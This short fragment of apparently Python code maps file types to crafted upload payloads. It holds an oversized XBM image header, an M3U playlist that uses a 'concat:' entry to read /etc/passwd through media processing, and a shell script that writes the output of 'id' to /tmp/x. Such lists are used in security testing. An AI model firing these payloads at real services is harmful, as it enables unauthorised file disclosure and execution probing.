        "XBM": "#define x_width 99999\n#define x_height 99999\nchar x_bits[]={0};",
        "playlist": f"#EXTM3U\n#EXTINF:10,\nconcat:{there}|file:///etc/passwd\n",
        "script": "#!/bin/sh\nid > /tmp/x\n",
